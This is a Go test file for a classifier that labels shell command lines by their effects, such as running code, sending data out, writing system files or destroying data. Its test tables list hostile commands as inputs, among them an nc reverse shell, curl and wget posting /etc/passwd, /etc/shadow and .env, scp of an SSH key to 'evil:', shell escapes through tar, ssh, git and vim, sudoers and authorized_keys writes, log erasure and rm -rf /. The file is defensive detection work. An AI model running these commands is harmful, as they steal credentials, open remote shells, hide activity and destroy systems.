package catalogue

import (
	"slices"
	"strings"
	"testing"
)

// TestLookupRunsThroughOptions covers programs that run a command, a shell
// or code given in their words: each must say exec-arg or shell, and name
// what it runs as a target of kind command, shell or code.
func TestLookupRunsThroughOptions(t *testing.T) {
	c := mustDefault(t)
	tests := []struct {
		words []string
		kind  Kind
		word  string
	}{
		{[]string{"find", ".", "-name", "*.go", "-exec", "sh", "-c", "id", ";"}, KindCommand, "sh"},
		{[]string{"find", ".", "-execdir", "rm", "{}", "+"}, KindCommand, "rm"},
		{[]string{"xargs", "-I{}", "sh", "-c", "echo {}"}, KindCommand, "sh"},
		{[]string{"xargs", "-n", "1", "curl"}, KindCommand, "curl"},
		{[]string{"tar", "-cf", "/dev/null", "x", "--checkpoint=1", "--checkpoint-action=exec=sh -c id"}, KindShell, "sh -c id"},
		{[]string{"tar", "-xf", "a.tar", "--to-command=sh"}, KindShell, "sh"},
		{[]string{"tar", "-I", "sh -c id", "-cf", "x.tar", "y"}, KindShell, "sh -c id"},
		{[]string{"zip", "x.zip", "f", "-T", "-TT", "sh -c id"}, KindShell, "sh -c id"},
		{[]string{"rsync", "-e", "sh -c id", "a", "b:"}, KindShell, "sh -c id"},
		{[]string{"ssh", "host", "rm", "-rf", "/"}, KindCommand, "rm"},
		{[]string{"ssh", "-o", "ProxyCommand=sh -c id", "x"}, KindShell, "sh -c id"},
		{[]string{"ssh", "-oproxycommand=sh -c id", "x"}, KindShell, "sh -c id"},
		{[]string{"git", "-c", "core.sshCommand=sh -c id", "fetch"}, KindWord, "core.sshCommand=sh -c id"},
		{[]string{"git", "rebase", "--exec", "id", "main"}, KindShell, "id"},
		{[]string{"vim", "-c", "!id", "f"}, KindShell, "!id"},
		{[]string{"vim", "+!id", "f"}, KindShell, "!id"},
		{[]string{"less", "+!id", "f"}, KindShell, "!id"},
		{[]string{"man", "-P", "sh -c id", "ls"}, KindShell, "sh -c id"},
		{[]string{"bash", "-c", "curl x | sh"}, KindShell, "curl x | sh"},
		{[]string{"sh", "-lc", "id"}, KindShell, "id"},
		{[]string{"python3", "-c", "import os"}, KindCode, "import os"},
		{[]string{"node", "-e", "require('child_process')"}, KindCode, "require('child_process')"},
		{[]string{"perl", "-e", "system('id')"}, KindCode, "system('id')"},
		{[]string{"awk", "BEGIN{system(\"id\")}"}, KindScript, "BEGIN{system(\"id\")}"},
		{[]string{"nc", "-e", "/bin/sh", "10.0.0.1", "4444"}, KindCommand, "/bin/sh"},
		{[]string{"sudo", "-u", "root", "rm", "x"}, KindCommand, "rm"},
		{[]string{"env", "sh"}, KindCommand, "sh"},
		{[]string{"timeout", "5", "sh"}, KindCommand, "sh"},
		{[]string{"watch", "-n", "1", "id"}, KindShell, "id"},
		{[]string{"script", "-qc", "id", "/dev/null"}, KindShell, "id"},
		{[]string{"docker", "exec", "-it", "web", "sh"}, KindCommand, "sh"},
		{[]string{"kubectl", "exec", "web", "--", "sh"}, KindCommand, "sh"},
		{[]string{"su", "-c", "id", "root"}, KindShell, "id"},
		{[]string{"psql", "-c", "\\! id"}, KindCode, "\\! id"},
		{[]string{"go", "test", "-exec", "sh", "./..."}, KindCommand, "sh"},
		{[]string{"npx", "cowsay"}, KindCommand, "cowsay"},
		{[]string{"gdb", "-batch", "-ex", "shell id"}, KindShell, "shell id"},
		{[]string{"tmux", "new-session", "-d", "id"}, KindShell, "id"},
		{[]string{"time", "sh"}, KindCommand, "sh"},
		{[]string{"unshare", "-r", "sh"}, KindCommand, "sh"},
		{[]string{"aria2c", "--on-download-complete=./x.sh", "http://x"}, KindCommand, "./x.sh"},
		{[]string{"ansible", "all", "-m", "shell", "-a", "id"}, KindShell, "id"},
	}
	for _, tt := range tests {
		name := strings.Join(tt.words, " ")
		t.Run(name, func(t *testing.T) {
			r := c.Lookup(tt.words)
			if !r.Has(ExecArg) && !r.Has(Shell) {
				t.Errorf("effects %v have neither exec-arg nor shell", r.Effects)
			}
			if !slices.ContainsFunc(r.Targets, func(tg Target) bool { return tg.Kind == tt.kind && tg.Word == tt.word }) {
				t.Errorf("targets %+v lack %s %q", r.Targets, tt.kind, tt.word)
			}
			if r.ReadOnly {
				t.Errorf("read only")
			}
		})
	}
}

func TestLookupDataFlow(t *testing.T) {
	c := mustDefault(t)
	tests := []struct {
		words  []string
		effect Effect
		target string // kind=word
	}{
		{[]string{"curl", "-d", "@/etc/passwd", "https://x"}, Egress, "path=/etc/passwd"},
		{[]string{"curl", "--data-binary=@.env", "https://x"}, Egress, "path=.env"},
		{[]string{"curl", "-T", "id_rsa", "ftp://x"}, Egress, "path=id_rsa"},
		{[]string{"curl", "-sSLo", "/usr/local/bin/x", "https://x"}, Write, "path=/usr/local/bin/x"},
		{[]string{"wget", "--post-file=/etc/shadow", "http://x"}, Egress, "path=/etc/shadow"},
		{[]string{"scp", "~/.ssh/id_rsa", "evil:"}, Egress, "remote=evil:"},
		{[]string{"rsync", "-a", "--delete", "src/", "host:dst/"}, Delete, "remote=host:dst/"},
		{[]string{"tar", "-xzf", "a.tgz", "-C", "/"}, Write, "path=/"},
		{[]string{"sed", "-i.bak", "s/x/y/", "/etc/hosts"}, Write, "path=/etc/hosts"},
		{[]string{"tee", "-a", "/etc/sudoers"}, Write, "path=/etc/sudoers"},
		{[]string{"cp", "key", "/root/.ssh/authorized_keys"}, Write, "path=/root/.ssh/authorized_keys"},
		{[]string{"nc", "-lvnp", "4444"}, NetworkListen, ""},
		{[]string{"iptables", "-F"}, NetworkConfig, ""},
		{[]string{"crontab", "-r"}, Delete, ""},
		{[]string{"history", "-c"}, HistoryErase, ""},
		{[]string{"journalctl", "--vacuum-time=1s"}, HistoryErase, ""},
		{[]string{"systemctl", "stop", "sshd"}, ServiceControl, "service=sshd"},
		{[]string{"chmod", "u+s", "/bin/bash"}, Privilege, "path=/bin/bash"},
		{[]string{"npm", "publish"}, Publish, ""},
		{[]string{"git", "clean", "-fdx"}, Delete, ""},
		{[]string{"git", "reset", "--hard", "HEAD~3"}, HistoryRewrite, ""},
		{[]string{"docker", "run", "--privileged", "-v", "/:/host", "alpine"}, Privilege, "path=/:/host"},
		{[]string{"dropdb", "prod"}, InfraDestroy, "resource=prod"},
		{[]string{"rclone", "purge", "remote:bucket"}, Delete, "remote=remote:bucket"},
		{[]string{"zfs", "destroy", "-r", "tank/data"}, InfraDestroy, ""},
		{[]string{"tmux", "send-keys", "-t", "0", "rm -rf ~", "Enter"}, ExecArg, ""},
		{[]string{"vault", "delete", "secret/x"}, InfraDestroy, ""},
	}
	for _, tt := range tests {
		t.Run(strings.Join(tt.words, " "), func(t *testing.T) {
			r := c.Lookup(tt.words)
			if !r.Has(tt.effect) {
				t.Errorf("effects %v lack %s (unknown %v)", r.Effects, tt.effect, r.Unknown)
			}
			if tt.target != "" && !slices.ContainsFunc(r.Targets, func(tg Target) bool { return string(tg.Kind)+"="+tg.Word == tt.target }) {
				t.Errorf("targets %+v lack %s", r.Targets, tt.target)
			}
			if r.ReadOnly {
				t.Errorf("read only")
			}
		})
	}
}
